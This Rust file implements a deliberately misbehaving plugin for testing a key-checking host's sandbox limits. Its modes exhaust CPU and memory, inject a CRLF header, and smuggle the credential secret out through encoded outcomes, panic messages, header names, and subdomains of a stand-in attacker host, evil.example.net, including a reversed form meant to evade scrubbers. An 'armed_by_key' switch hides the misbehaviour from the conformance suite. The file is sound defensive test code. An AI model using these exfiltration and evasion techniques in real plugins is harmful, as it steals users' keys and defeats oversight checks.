//! A plugin that misbehaves on purpose, as its config's `mode` says, so the host's tests can
//! check each limit: `loop`, `memory`, `huge-output`, `trap`, `steps`, `off-allowlist`,
//! `echo-secret`, `big-request` (one byte over the host's default body limit), `bad-header`,
//! `many-headers` and `many-warnings` (a hundred thousand empty ones, in a request, an
//! outcome and the format check), and the ways to smuggle the key out through
//! what the host reports: `secret-transformed` (base64, hex, upper case in the outcome),
//! `secret-in-origin` (a request to a host named after the key), `secret-in-header-name`,
//! `secret-in-origin-reversed` (the key backwards, which no scrubber looks for),
//! `secret-in-panic`; `outcome-from-config` returns the verdict, message, label and warnings
//! its config names, and `request-from-config` the request (method, URL, headers, body size)
//! (so tests can feed the host arbitrary plugin output); anything else
//! behaves (one GET to `url`).
//!
//! With `"armed_by_key": true` in its config, the plugin misbehaves only for a key containing
//! `armed`, and otherwise behaves as a careful test does (one GET to `url`, the usual statuses,
//! a success only with a JSON body): it passes the conformance suite and faults later, as a
//! plugin with a bug on some inputs would, so the tests can check that the host copes at run
//! time too.

use byok_plugin_sdk::{
    base64_encode, common_status, export_plugin, Context, Credential, Outcome, Plugin, Request,
    Response, Step, TransportError,
};

pub struct Hostile {
    config: byok_plugin_sdk::Value,
    mode: String,
    url: String,
    secret: String,
}

/// Enough empty entries that the host's copy would take megabytes, while the plugin's own
/// copy fits its memory limit.
const MANY: usize = 100_000;

impl Plugin for Hostile {
    fn format_check(_credential: &Credential, config: &byok_plugin_sdk::Value) -> Vec<String> {
        match config.get("mode").and_then(byok_plugin_sdk::Value::as_str) {
            Some("many-warnings") => vec![String::new(); MANY],
            _ => Vec::new(),
        }
    }

    fn start(credential: Credential, ctx: Context) -> (Self, Step) {
        let armed_by_key = ctx
            .config
            .get("armed_by_key")
            .and_then(byok_plugin_sdk::Value::as_bool)
            .unwrap_or(false);
        let mode = if armed_by_key && !credential.secret.contains("armed") {
            "careful".to_owned()
        } else {
            ctx.config_str("mode").unwrap_or("").to_owned()
        };
        let url = ctx
            .config_str("url")
            .unwrap_or("http://127.0.0.1:9/")
            .to_owned();
        let mut me = Hostile {
            config: ctx.config.clone(),
            mode,
            url,
            secret: credential.secret,
        };
        let first = me.act();
        (me, first)
    }

    fn resume(&mut self, response: Result<Response, TransportError>) -> Step {
        match self.mode.as_str() {
            "careful" => Step::conclude(response, |r| match r.status {
                200..=299 if r.json().is_some() => Outcome::connected("The key works."),
                _ => common_status(r).unwrap_or_else(|| Outcome::unexpected_status(r)),
            }),
            "steps" => Step::Send(Request::get(self.url.clone())),
            _ => Step::Done(Outcome::connected("done")),
        }
    }
}

impl Hostile {
    fn act(&mut self) -> Step {
        match self.mode.as_str() {
            "loop" => {
                let mut x: u64 = 1;
                loop {
                    x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "huge-output" => Step::Done(Outcome::connected("x".repeat(8 << 20))),
            "trap" => panic!("the hostile plugin panics on purpose"),
            "off-allowlist" => Step::Send(Request::get("https://evil.example.net/collect")),
            "echo-secret" => Step::Done(
                Outcome::connected(format!("your key is {}", self.secret))
                    .with_label(format!("acct {}", self.secret)),
            ),
            "secret-transformed" => {
                let hex: String = self.secret.bytes().map(|b| format!("{b:02x}")).collect();
                Step::Done(
                    Outcome::connected(format!("b64 {}", base64_encode(self.secret.as_bytes())))
                        .with_label(self.secret.to_ascii_uppercase())
                        .with_warning(format!("hex {hex}"))
                        .with_warning(format!(
                            "basic {}",
                            base64_encode(format!("user:{}", self.secret).as_bytes())
                        )),
                )
            }
            "secret-in-origin" => {
                let label: String = self
                    .secret
                    .chars()
                    .filter(char::is_ascii_alphanumeric)
                    .collect();
                Step::Send(Request::get(format!("https://{label}.evil.example.net/")))
            }
            "secret-in-origin-reversed" => {
                // An encoding no scrubber looks for.
                let label: String = self
                    .secret
                    .chars()
                    .rev()
                    .filter(char::is_ascii_alphanumeric)
                    .collect();
                Step::Send(Request::get(format!("https://{label}.evil.example.net/")))
            }
            "secret-in-header-name" => {
                let name = format!("x-{}{{}}", self.secret);
                Step::Send(Request::get(self.url.clone()).header(&name, "v"))
            }
            "secret-in-panic" => panic!("leaking {}", self.secret),
            "request-from-config" => {
                let c = &self.config;
                let url = c
                    .get("request_url")
                    .and_then(byok_plugin_sdk::Value::as_str)
                    .unwrap_or_default();
                let method = match c.get("method").and_then(byok_plugin_sdk::Value::as_u64) {
                    Some(0) => byok_plugin_sdk::Method::Get,
                    Some(1) => byok_plugin_sdk::Method::Head,
                    Some(2) => byok_plugin_sdk::Method::Post,
                    Some(3) => byok_plugin_sdk::Method::Put,
                    Some(4) => byok_plugin_sdk::Method::Patch,
                    _ => byok_plugin_sdk::Method::Delete,
                };
                let mut r = Request::new(method, url);
                for pair in c
                    .get("headers")
                    .and_then(byok_plugin_sdk::Value::as_array)
                    .into_iter()
                    .flatten()
                {
                    let part = |i: usize| {
                        pair.get(i)
                            .and_then(byok_plugin_sdk::Value::as_str)
                            .unwrap_or_default()
                    };
                    r = r.header(part(0), part(1));
                }
                if let Some(n) = c.get("body_bytes").and_then(byok_plugin_sdk::Value::as_u64) {
                    r.body = Some(vec![b'x'; n as usize]);
                }
                Step::Send(r)
            }
            "outcome-from-config" => {
                let text = |name: &str| {
                    self.config
                        .get(name)
                        .and_then(byok_plugin_sdk::Value::as_str)
                        .unwrap_or_default()
                        .to_owned()
                };
                let mut o = match self
                    .config
                    .get("verdict")
                    .and_then(byok_plugin_sdk::Value::as_u64)
                {
                    Some(0) => Outcome::connected(text("message")),
                    Some(1) => Outcome::invalid(text("message")),
                    Some(2) => Outcome::insufficient(text("message")),
                    Some(3) => Outcome::rate_limited(text("message")),
                    Some(4) => Outcome::unavailable(text("message")),
                    _ => Outcome::unexpected(text("message")),
                };
                if let Some(label) = self
                    .config
                    .get("label")
                    .and_then(byok_plugin_sdk::Value::as_str)
                {
                    o = o.with_label(label);
                }
                for w in self
                    .config
                    .get("warnings")
                    .and_then(byok_plugin_sdk::Value::as_array)
                    .into_iter()
                    .flatten()
                    .filter_map(byok_plugin_sdk::Value::as_str)
                {
                    o = o.with_warning(w);
                }
                Step::Done(o)
            }
            "big-request" => {
                let mut r = Request::post(self.url.clone());
                r.body = Some(vec![0u8; (64 << 10) + 1]);
                Step::Send(r)
            }
            "bad-header" => {
                Step::Send(Request::get(self.url.clone()).header("x-evil", "a\r\nHost: evil"))
            }
            "many-headers" => {
                let mut r = Request::get(self.url.clone());
                r.headers = vec![(String::new(), String::new()); MANY];
                Step::Send(r)
            }
            "many-warnings" => {
                let mut o = Outcome::connected("done");
                o.warnings = vec![String::new(); MANY];
                Step::Done(o)
            }
            _ => Step::Send(Request::get(self.url.clone())),
        }
    }
}

export_plugin!(Hostile);
